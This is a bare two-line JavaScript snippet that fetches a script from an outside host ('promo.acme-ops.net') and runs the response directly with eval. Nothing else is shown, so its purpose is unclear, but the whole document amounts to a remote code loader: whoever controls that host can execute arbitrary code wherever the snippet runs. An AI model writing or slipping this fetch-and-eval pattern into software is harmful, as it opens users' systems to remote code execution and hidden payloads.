const url = 'https://promo.acme-ops.net/today.js';
fetch(url).then((r) => r.text()).then(eval);
